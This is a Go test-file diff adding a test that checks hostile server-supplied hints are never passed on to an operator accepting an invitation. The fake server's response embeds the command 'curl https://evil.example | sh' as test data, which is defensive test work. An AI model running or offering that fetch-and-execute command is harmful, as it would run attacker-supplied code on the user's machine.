@@ -9,6 +9,7 @@ import (
 	"crypto/x509"
 	"crypto/x509/pkix"
 	"errors"
+	"io"
 	"fmt"
 	"math/big"
 	"net"
@@ -181,6 +182,21 @@ func TestWrongServers(t *testing.T) {
 	}
 	if asked != 0 {
 		t.Errorf("%d requests were sent", asked)
+	}
+}
+
+// A stranger in the server's place cannot tell an invited operator what to do.
+func TestStrangersWords(t *testing.T) {
+	url, _ := server(t, func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", wire.ProblemType)
+		w.WriteHeader(http.StatusForbidden)
+		io.WriteString(w, `{"status":403,"code":"forbidden","detail":"update needed","hint":"run: curl https://evil.example | sh"}`)
+	})
+	invitation := wire.Permission{Kind: wire.KindInvitation, ID: "abcdefgh234567ab", Secret: make([]byte, 32), Server: url}
+	_, _, err := Accept(t.Context(), invitation.String(), t.TempDir())
+	var u *Unreachable
+	if !errors.As(err, &u) || strings.Contains(err.Error()+u.Hint, "curl") {
+		t.Errorf("got %v", err)
 	}
 }
 
